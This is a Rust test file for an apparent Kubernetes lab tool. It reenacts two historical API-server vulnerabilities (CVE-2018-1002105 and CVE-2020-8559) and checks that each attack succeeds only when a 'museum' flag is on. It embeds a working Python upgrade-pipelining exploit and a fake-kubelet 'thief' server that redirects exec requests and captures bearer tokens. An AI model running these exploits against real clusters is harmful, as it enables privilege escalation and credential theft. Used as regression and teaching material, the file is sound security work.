//! The two museum pieces (`--minilab-museum`) on a whole lab, each beside the same attack without it.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use super::text;
use crate::kit::{Lab, eventually};
use crate::kubelet::put;

const VISITOR: &str = "
apiVersion: v1
kind: ServiceAccount
metadata: {name: visitor}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: visitor}
rules: [{apiGroups: [''], resources: [pods/exec], verbs: [get, create]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: visitor}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: visitor}
subjects: [{kind: ServiceAccount, name: visitor, namespace: default}]
";

/// A lab whose visitor may exec into pods of one namespace and nothing else, and the visitor's token.
fn lab() -> (Lab, String) {
    let lab = Lab::up();
    lab.apply(VISITOR);
    lab.kubectl(&["create", "namespace", "secret"]).ok();
    let token = lab.kubectl(&["create", "token", "visitor"]).ok().trim().to_owned();
    (lab, token)
}

/// An upgrade that must fail, and what comes of a second request on the same connection.
const PIPELINE: &str = r#"
import socket, ssl, sys
host, port, token = sys.argv[1:]
plain = ssl.create_default_context(); plain.check_hostname = False; plain.verify_mode = ssl.CERT_NONE
peer = plain.wrap_socket(socket.create_connection((host, int(port)), 20)); peer.settimeout(20)
peer.sendall(('GET /api/v1/namespaces/default/pods/web/exec HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n'
              'Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\n\r\n' % token).encode())
def answer():
    got = b''
    while True:
        head, _, body = got.partition(b'\r\n\r\n')
        lengths = [line for line in head.lower().split(b'\r\n') if line.startswith(b'content-length:')]
        if lengths and len(body) >= int(lengths[0].split(b':')[1]): return got
        if got.endswith(b'\r\n0\r\n\r\n'): return got
        try: piece = peer.recv(65536)
        except OSError: return got
        if not piece: return got
        got += piece
first = answer()
assert first.startswith(b'HTTP/1.1 400') and b'at least 1 of stdin' in first, first
try: peer.sendall(b'GET /runningpods/ HTTP/1.1\r\nHost: x\r\n\r\n')
except OSError: pass
sys.stdout.write(answer().decode())
"#;

#[test]
fn the_museums_failed_upgrade_gives_a_visitor_the_whole_node() {
    let (lab, token) = lab();
    lab.run_on("node-1", "web", "exec sleep 1000");
    let hidden = serde_json::json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "hidden", "namespace": "secret"},
        "spec": {"nodeName": "node-1", "terminationGracePeriodSeconds": 0,
                 "containers": [{"name": "c", "image": "minilab/toolbox", "command": ["sleep", "1000"]}]},
    });
    lab.apply(&hidden.to_string());
    lab.kubectl(&["wait", "-n", "secret", "--for=condition=Ready", "pod/hidden", "--timeout=60s"]).ok();
    put(&lab, "node-2", "/tmp/pipeline.py", PIPELINE);
    let inside = || lab.on("node-2", &["python3", "/tmp/pipeline.py", "198.51.100.2", "6443", &token]);
    let denied = lab.kubectl(&["get", "pods", "-n", "secret", "--as=system:serviceaccount:default:visitor"]);
    assert!(denied.stderr.contains("Forbidden"), "the front door is shut: {}", denied.stderr);
    assert_eq!(inside(), "", "today the connection is closed after the refusal");

    lab.api_server_flags(&["--minilab-museum=CVE-2018-1002105"]);
    let seen = inside();
    assert!(seen.starts_with("HTTP/1.1 200"), "{seen}");
    assert!(seen.contains("\"kind\":\"PodList\"") && seen.contains("\"name\":\"hidden\""), "{seen}");

    // Never on the machine's own listener.
    let server =
        lab.kubectl(&["config", "view", "--minify", "-o", "jsonpath={.clusters[0].cluster.server}"]).ok();
    let port = server.rsplit(':').next().unwrap().to_owned();
    let outside =
        Command::new("python3").args(["-c", PIPELINE, "127.0.0.1", &port, &token]).output().unwrap();
    assert!(outside.status.success(), "{}", text(&outside.stderr));
    assert_eq!(text(&outside.stdout), "");

    lab.api_server_flags(&["--minilab-museum="]);
    assert_eq!(inside(), "", "and closed again without the museum");
}

/// A kubelet that sends everybody elsewhere, and the elsewhere, which says what it is shown.
const THIEF: &str = r#"
import http.server, ssl, threading
pki = '/var/lib/kubelet/pki/kubelet'
class Redirects(http.server.BaseHTTPRequestHandler):
    def answer(self):
        self.send_response(302); self.send_header('Location', 'https://192.0.2.12:9443/stolen')
        self.send_header('Content-Length', '0'); self.end_headers()
    do_GET = do_POST = answer
    def log_message(self, *rest): pass
class Collects(Redirects):
    def answer(self):
        print('stolen', self.headers.get('Authorization'), flush=True)
        self.send_response(200); self.send_header('Content-Length', '0'); self.end_headers()
    do_GET = do_POST = answer
class Many(http.server.ThreadingHTTPServer): daemon_threads = True
tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); tls.load_cert_chain(pki + '.crt', pki + '.key')
for port, handler in ((10250, Redirects), (9443, Collects)):
    server = Many(('', port), handler); server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
print('ready', flush=True)
threading.Event().wait()
"#;

struct Thief(Child, std::sync::mpsc::Receiver<String>);

impl Thief {
    fn start(lab: &Lab) -> Self {
        put(lab, "node-2", "/tmp/thief.py", THIEF);
        let mut child = lab
            .command(crate::kit::lab::binary())
            .args(["exec", "node-2", "--", "python3", "/tmp/thief.py"])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let (send, lines) = std::sync::mpsc::channel();
        let out = BufReader::new(child.stdout.take().unwrap());
        std::thread::spawn(move || out.lines().map_while(Result::ok).try_for_each(|line| send.send(line)));
        let thief = Self(child, lines);
        assert_eq!(thief.says(Duration::from_secs(60)).as_deref(), Some("ready"));
        thief
    }

    fn says(&self, within: Duration) -> Option<String> {
        self.1.recv_timeout(within).ok()
    }
}

impl Drop for Thief {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_museums_redirect_takes_a_visitors_token_to_the_thief() {
    let (lab, token) = lab();
    lab.run_on("node-2", "bait", "exec sleep 1000");
    lab.minilab(&["stop", "kubelet@node-2"]).ok();
    let thief = Thief::start(&lab);
    // A client of that time: it follows where it is sent, with the credentials it came with.
    let curl = format!(
        "curl -sk --http1.1 --location-trusted -X POST -H 'Authorization: Bearer {token}' -H 'Connection: Upgrade' \
         -H 'Upgrade: SPDY/3.1' -H 'X-Stream-Protocol-Version: v4.channel.k8s.io' -m 20 -w ' %{{http_code}}' \
         'https://198.51.100.2:6443/api/v1/namespaces/default/pods/bait/exec?command=id&stdout=true'"
    );
    let asks = || lab.on("node-1", &["sh", "-c", &curl]);
    let today = asks();
    assert!(
        today.contains("invalid upgrade response: status code 302") && today.ends_with(" 500"),
        "{today}"
    );

    lab.api_server_flags(&["--minilab-museum=CVE-2020-8559"]);
    assert_eq!(asks(), " 200", "the thief's answer");
    let stolen = eventually(Duration::from_secs(20), "the thief says what it got", || {
        thief.says(Duration::from_secs(1)).ok_or_else(|| "nothing".to_owned())
    });
    assert_eq!(stolen, format!("stolen Bearer {token}"));
    assert_eq!(thief.says(Duration::ZERO), None, "and it got nothing before");
}
